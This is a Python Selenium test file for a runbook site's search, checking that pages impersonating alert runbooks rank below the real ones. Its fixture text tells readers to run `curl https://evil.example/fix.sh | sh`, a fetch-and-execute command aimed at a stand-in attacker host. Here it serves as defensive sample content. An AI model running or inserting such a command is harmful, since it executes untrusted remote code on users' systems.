"""A page that takes another's name as its title does not come before the page that bears
it: a pull request's one-line page titled `etcdMembersDown` (with a `curl | sh` in it)
outranked the alert's runbook on its length alone, on the search page and in the header's
list, on a small site (index in meta.json) and on a large one (heads without names)."""

from __future__ import annotations

import subprocess
import sys
import urllib.parse

import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

from conftest import REPO, build_site, copy_corpus, load, serve

HOSTILE = "---\ntitle: {title}\n---\n\nIf this fires, run `curl https://evil.example/fix.sh | sh` and close the page.\n"

# Pages a pull request adds to prometheus-operator's runbooks, each titled after an alert
# whose runbook is there.
HOSTILE_PAGES = {"quick-fix.md": "etcdMembersDown", "crash.md": "KubePodCrashLooping", "other.md": "TargetDown",
                 # Named after the alert by its file, with a title of its own.
                 "NodeClockNotSynchronising.md": "Clock fix"}


def page_links(driver, base: str, query: str) -> list[str]:
    load(driver, base + "/search/?q=" + urllib.parse.quote(query))
    WebDriverWait(driver, 15).until(lambda d: d.find_element(By.ID, "search-status").text.strip())
    return [urllib.parse.urlsplit(a.get_attribute("href")).path
            for a in driver.find_elements(By.CSS_SELECTOR, "#search-results > li.result a.result-title")]


def header_links(driver, base: str, query: str) -> list[str]:
    """The header's list, as it asks: compact, titles first from what is known."""
    load(driver, base + "/runbooks/")
    found = driver.execute_async_script(
        "const [q, done] = [arguments[0], arguments[arguments.length - 1]];"
        "const ask = () => window.pipebookSearch.results(q, {}, 6, false, true, () => {})"
        "  .then(r => done(r.items.map(i => i.url)), e => done(String(e)));"
        # The page loads the client when the box is first used; load it as that does.
        "if (window.pipebookSearch && window.pipebookSearch.results) { ask(); } else {"
        "  const s = document.createElement('script'); s.src = '/static/search.js';"
        "  s.setAttribute('data-index', '/search/'); s.onload = ask; document.head.appendChild(s); }", query)
    assert isinstance(found, list), found
    return [urllib.parse.urlsplit(u).path for u in found]


@pytest.fixture(scope="module")
def small_site(tmp_path_factory):
    """prometheus-operator's runbooks (an index small enough for meta.json) and the pages."""
    root = tmp_path_factory.mktemp("names")
    runbooks = root / "content" / "runbooks"
    copy_corpus(runbooks)
    (runbooks / "zz-notes").mkdir()
    for name, title in HOSTILE_PAGES.items():
        (runbooks / "zz-notes" / name).write_text(HOSTILE.format(title=title))
    # One that says the name over and over, to outrank the runbook on its words.
    (runbooks / "zz-notes" / "NodeClockNotSynchronising.md").write_text(
        HOSTILE.format(title="Clock fix") + "NodeClockNotSynchronising. " * 6 + "\n")
    with serve(build_site(root, root / "public")) as srv:
        yield srv


@pytest.mark.parametrize("query,real,copy", [
    ("etcdMembersDown", "/runbooks/etcd/etcdMembersDown/", "/runbooks/zz-notes/quick-fix/"),
    ("etcd members down", "/runbooks/etcd/etcdMembersDown/", "/runbooks/zz-notes/quick-fix/"),
    ("KubePodCrashLooping", "/runbooks/kubernetes/KubePodCrashLooping/", "/runbooks/zz-notes/crash/"),
    ("TargetDown", "/runbooks/general/TargetDown/", "/runbooks/zz-notes/other/"),
    ("NodeClockNotSynchronising", "/runbooks/node/NodeClockNotSynchronising/", "/runbooks/zz-notes/NodeClockNotSynchronising/"),
])
def test_a_page_titled_after_an_alert_comes_after_its_runbook(driver, small_site, query, real, copy):
    for links in (page_links(driver, small_site.base_url, query), header_links(driver, small_site.base_url, query)):
        assert real in links and copy in links, (query, links)
        assert links[0] == real, (query, links)


def test_the_runbook_claiming_an_alert_comes_before_a_file_named_after_it(driver, tmp_path_factory):
    """Found by review: the runbook that claims `etcdQuorumAtRisk` in its front matter is
    filed under another name; a pull request's `zz-e/etcdQuorumAtRisk.md` came first."""
    root = tmp_path_factory.mktemp("claims")
    runbooks = root / "content" / "runbooks"
    copy_corpus(runbooks)
    (runbooks / "etcd" / "members-quorum.md").write_text(
        "---\ntitle: Members and quorum\nalerts: [etcdQuorumAtRisk]\n---\n\nThe etcd cluster is one member away "
        "from losing quorum: find the members that are down with `etcdctl endpoint health`, and bring them back "
        "before touching any other.\n")
    (runbooks / "zz-e").mkdir()
    (runbooks / "zz-e" / "etcdQuorumAtRisk.md").write_text(HOSTILE.format(title="Quick fix"))
    with serve(build_site(root, root / "public")) as srv:
        for query in ["etcdQuorumAtRisk", "etcd quorum at risk"]:
            for links in (page_links(driver, srv.base_url, query), header_links(driver, srv.base_url, query)):
                assert links[:2] == ["/runbooks/etcd/members-quorum/", "/runbooks/zz-e/etcdQuorumAtRisk/"], (query, links)


def test_a_copied_title_leaves_each_name_to_its_file(driver, small_site):
    """The corpus's PrometheusRemoteWriteBehind.md is titled `PrometheusRemoteStorageFailures`."""
    for query, want in [("PrometheusRemoteStorageFailures", "/runbooks/prometheus/PrometheusRemoteStorageFailures/"),
                        ("PrometheusRemoteWriteBehind", "/runbooks/prometheus/PrometheusRemoteWriteBehind/")]:
        for links in (page_links(driver, small_site.base_url, query), header_links(driver, small_site.base_url, query)):
            assert links and links[0] == want, (query, links)


@pytest.fixture(scope="module")
def large_site(tmp_path_factory):
    """1,100 generated runbooks (heads, whose rows have no names) and a page titled with
    the file name of one of them."""
    root = tmp_path_factory.mktemp("names-large")
    subprocess.run([sys.executable, str(REPO / "bench" / "gen_site.py"), str(root / "site"), "--runbooks", "1100"],
                   check=True, capture_output=True)
    runbooks = root / "site" / "content" / "runbooks"
    target = sorted(runbooks.rglob("*.md"))[7]
    (runbooks / "zz-notes").mkdir()
    (runbooks / "zz-notes" / "quick-fix.md").write_text(HOSTILE.format(title=target.stem))
    out = build_site(root / "site", root / "public")
    real = "/runbooks/" + str(target.relative_to(runbooks).with_suffix("")) + "/"
    assert (out / real.strip("/") / "index.html").is_file(), real
    with serve(out) as srv:
        yield srv, target.stem, real


def test_on_a_large_site_the_file_of_the_name_comes_first(driver, large_site):
    srv, name, real = large_site
    copy = "/runbooks/zz-notes/quick-fix/"
    for links in (page_links(driver, srv.base_url, name), header_links(driver, srv.base_url, name)):
        assert real in links and copy in links, (name, links)
        assert links[0] == real, (name, links)
